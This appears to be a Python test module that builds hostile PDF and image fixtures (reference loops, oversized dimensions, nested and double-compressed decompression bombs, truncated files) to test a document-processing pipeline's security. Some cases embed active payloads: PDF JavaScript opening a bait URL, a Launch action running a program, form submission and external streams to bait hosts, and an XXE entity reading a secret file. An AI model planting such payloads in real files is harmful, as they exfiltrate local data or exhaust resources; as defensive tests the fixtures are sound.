"""PDF and pictures: loops, lies about sizes, active content, bombs, cuts."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator, Mapping

from tests.security.cases import SENTENCE, Bait, Case, case, noise

TEXT = f"BT /F1 12 Tf 72 700 Td ({SENTENCE}) Tj ET".encode()
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(data: bytes, entries: str = "", filters: str = "/FlateDecode", packed: bool = True) -> bytes:
    body = zlib.compress(data) if packed else data
    return f"<< /Length {len(body)} /Filter {filters} {entries} >>\nstream\n".encode() + body + b"\nendstream"


def pdf(changes: Mapping[int, bytes | str] | None = None, trailer: str = "", table: bool = True) -> bytes:
    """A PDF of one page, with objects replaced or added."""
    objects: dict[int, bytes | str] = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream(TEXT),
        5: FONT,
    } | dict(changes or {})
    out, places = b"%PDF-1.7\n", {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += f"{number} 0 obj\n".encode() + (body.encode() if isinstance(body, str) else body) + b"\nendobj\n"
    start, size = len(out), max(objects) + 1
    if table:
        out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
        out += b"".join(f"{places.get(n, 0):010d} 00000 {'n' if n in places else 'f'} \n".encode() for n in range(1, size))
    return out + f"trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()


def _page(entries: str) -> str:
    return f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> {entries} >>"


def _pdfs(bait: Bait) -> Iterator[Case]:
    url, secret = bait.url, bait.secret
    active = {
        "javascript": f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('{url}'\\)) >> >>",
        "launch": f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/usr/bin/touch) /P ({bait.trap}/launch) >> >>",
        "uri": f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI ({url}/open) >> >>",
        "submit": f"<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /SubmitForm /F ({url}/form) >> >> >>",
        "goto": f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F ({secret}) /D [0 /Fit] >> >>",
        "embedded": "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> >>",
        "xfa": "<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 9 0 R /Fields [] >> >>",
    }
    attached = stream(f"<!DOCTYPE x [<!ENTITY f SYSTEM '{secret.as_uri()}'>]><x>&f;</x>".encode(), "/Type /EmbeddedFile")
    for name, catalogue in active.items():
        yield case(f"pdf/{name}.pdf", pdf({1: catalogue, 9: attached}), says="learns to translate")
    outside = f"<< /Length 0 /F << /FS /URL /F ({url}/stream) >> >>\nstream\n\nendstream"
    yield case("pdf/outside.pdf", pdf({4: outside}), "no_text broken needs_ocr")
    yield case("pdf/outside-file.pdf", pdf({4: f"<< /Length 0 /F ({secret}) >>\nstream\n\nendstream"}), "no_text broken needs_ocr")
    kids = {
        "kids-loop": {2: "<< /Type /Pages /Count 1 /Kids [2 0 R] >>"},
        "kids-self-count": {2: "<< /Type /Pages /Count 2147483647 /Kids [3 0 R] >>"},
        "kids-negative": {2: "<< /Type /Pages /Count -5 /Kids [3 0 R] >>"},
        "kids-many": {2: f"<< /Type /Pages /Count 3000 /Kids [{'3 0 R ' * 3000}] >>"},
        "kids-deep": {2: "<< /Type /Pages /Count 1 /Kids [100 0 R] >>"}
        | {n: f"<< /Type /Pages /Count 1 /Parent {n - 1} 0 R /Kids [{n + 1} 0 R] >>" for n in range(100, 5_000)}
        | {5_000: _page(">>")},
        "contents-loop": {4: "4 0 R"},
        "contents-pair": {4: "6 0 R", 6: "4 0 R"},
        "length-loop": {4: b"<< /Length 4 0 R >>\nstream\n" + TEXT + b"\nendstream"},
        "form-loop": {
            3: _page("/XObject << /X 6 0 R >> >>"),
            4: stream(b"/X Do " + TEXT),
            6: stream(b"/X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"),
        },
        "font-loop": {5: "<< /Type /Font /Subtype /Type0 /BaseFont /A /DescendantFonts [5 0 R] >>"},
        "outline-loop": {
            1: "<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R >>",
            7: "<< /First 8 0 R /Last 8 0 R /Count 1 >>",
            8: "<< /Title (A) /Parent 7 0 R /Next 8 0 R /First 8 0 R >>",
        },
        "media-giant": {3: _page(">>").replace("612 792", "1e30 1e30")},
        "media-nan": {3: _page(">>").replace("0 0 612 792", "0 0 -99999999999 nan")},
        "media-nil": {3: _page(">>").replace("612 792", "0 0")},
        "rotate": {3: _page(">> /Rotate 9223372036854775807").replace(">> /Rotate", ">> /Rotate", 1)},
        "unit": {3: _page(">> /UserUnit 1e9")},
        "numbers": {4: stream(b"BT /F1 " + b"9" * 5000 + b" Tf " + b"1e" + b"9" * 400 + b" 0 Td (x) Tj ET")},
        "deep-array": {4: stream(b"[" * 200_000 + TEXT)},
        "deep-dictionary": {3: _page("/X " + "<<" * 20_000)},
        "deep-q": {4: stream(b"q " * 300_000 + TEXT)},
        "glyphs": {4: stream(b"BT /F1 12 Tf 72 700 Td " + b"(aaaaaaaaaaaaaaaaaaaaaaaa) Tj " * 20_000 + b"ET")},
        "filters": {4: stream(TEXT, filters="[" + "/FlateDecode " * 3_000 + "]")},
        "stream-bomb": {
            4: stream(zlib.compress(zlib.compress(b" " * 60_000_000, 9), 9), filters="[/FlateDecode /FlateDecode /FlateDecode]")
        },
        "name": {5: b"<< /Type /Font /Subtype /Type1 /BaseFont /" + b"A" * 1_000_000 + b" >>"},
        "predictor": {4: stream(TEXT, "/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 99 >>")},
        "lines": {4: stream(b"0 0 m 9 9 l S " * 200_000 + TEXT)},
        "cmap": {
            5: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>",
            6: stream(
                b"begincmap 1 begincodespacerange <00> <ff> endcodespacerange " + b"1 beginbfrange <00> <ff> <d800> endbfrange " * 9_000
            ),
        },
    }
    for name, changes in kids.items():
        yield case(f"pdf/{name}.pdf", pdf(changes))
    image = "/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8"
    for name, size in (("image-giant", 60_000), ("image-huge", 2_000_000_000)):
        drawn = {
            3: _page("/XObject << /I 6 0 R >> >>"),
            4: stream(b"612 0 0 792 0 0 cm /I Do"),
            6: stream(b"\0" * 4_000_000, f"{image} /Width {size} /Height {size}"),
        }
        yield case(f"pdf/{name}.pdf", pdf(drawn))
    for name, filters in (("jbig2", "/JBIG2Decode"), ("jpx", "/JPXDecode"), ("dct", "/DCTDecode"), ("ccitt", "/CCITTFaxDecode")):
        drawn = {
            3: _page("/XObject << /I 6 0 R >> >>"),
            4: stream(b"612 0 0 792 0 0 cm /I Do " + TEXT),
            6: stream(noise(5_000), f"{image} /Width 9000 /Height 9000", filters, packed=False),
        }
        yield case(f"pdf/{name}.pdf", pdf(drawn))
    whole = pdf()
    yield case("pdf/sound.pdf", whole, says="learns to translate")
    yield case("pdf/no-table.pdf", pdf(table=False), says="learns to translate")
    yield case("pdf/no-root.pdf", whole.replace(b"/Root 1 0 R", b"/Root 99 0 R"))
    yield case("pdf/previous.pdf", pdf(trailer="/Prev 9"))
    yield case(
        "pdf/locked.pdf",
        pdf(
            {9: f"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <{'ab' * 32}> /U <{'cd' * 32}> >>"}, "/Encrypt 9 0 R /ID [<00> <00>]"
        ),
        "encrypted",
    )
    yield case("pdf/handler.pdf", pdf({9: "<< /Filter /Odd.Handler /V 9 >>"}, "/Encrypt 9 0 R"), "encrypted broken")
    for share in (2, 40, 70, 95):
        yield case(f"pdf/cut{share}.pdf", whole[: len(whole) * share // 100])
    yield case("pdf/head.pdf", b"%PDF-1.7\n%\xe2\xe3", "broken")
    yield case("pdf/noise.pdf", b"%PDF-1.4\n" + noise(100_000), "broken")
    yield case("pdf/html.pdf", f"<html><body><p>{SENTENCE}</p></body></html>")
    yield case("pdf/prefix.pdf", b"junk " * 100 + whole)
    yield case("pdf/twice.pdf", whole + whole)


def _png(width: int, height: int, rows: bytes, extra: bytes = b"") -> bytes:
    def chunk(sort: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + sort + data + struct.pack(">I", zlib.crc32(sort + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def _pictures(bait: Bait) -> Iterator[Case]:
    from PIL import Image

    yield case("image/bomb.png", _png(50_000, 50_000, b"\0" * 10_000_000), "broken too_large needs_ocr")
    yield case("image/giant.png", _png(2**31 - 1, 2**31 - 1, b"\0"), "broken too_large needs_ocr")
    yield case("image/nil.png", _png(0, 0, b""), "broken needs_ocr")
    yield case("image/line.png", _png(1, 100_000, b"\0\0" * 100_000), "broken no_text too_large timeout needs_ocr")
    small = _png(40, 40, (b"\0" + b"\xff" * 40) * 40)
    yield case("image/blank.png", small, "no_text needs_ocr")
    for share in (10, 50, 90):
        yield case(f"image/cut{share}.png", small[: len(small) * share // 100], "broken needs_ocr")
    text = struct.pack(">I", 60) + b"zTXt" + b"k\0\0" + zlib.compress(b" " * 20_000_000, 9)
    yield case("image/text-bomb.png", small[:33] + text[:20_000] + small[33:], "broken no_text needs_ocr")
    for form in ("TIFF", "GIF", "JPEG", "BMP", "WEBP"):
        out = io.BytesIO()
        Image.new("L", (30, 30), 255).save(out, form)
        data = out.getvalue()
        yield case(f"image/cut.{form.lower()}", data[: len(data) * 2 // 3], "broken no_text needs_ocr")
        yield case(f"image/noise.{form.lower()}", data[:16] + noise(2_000), "broken no_text too_large needs_ocr")
    loop = b"II*\x00\x08\x00\x00\x00\x01\x00\x00\x01\x03\x00\x01\x00\x00\x00\x10\x00\x00\x00\x08\x00\x00\x00"
    yield case("image/loop.tiff", loop, "broken no_text needs_ocr")
    yield case("image/script.svg", f"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script><image href='{bait.url}/i'/></svg>")


def cases(bait: Bait) -> Iterator[Case]:
    yield from _pdfs(bait)
    yield from _pictures(bait)
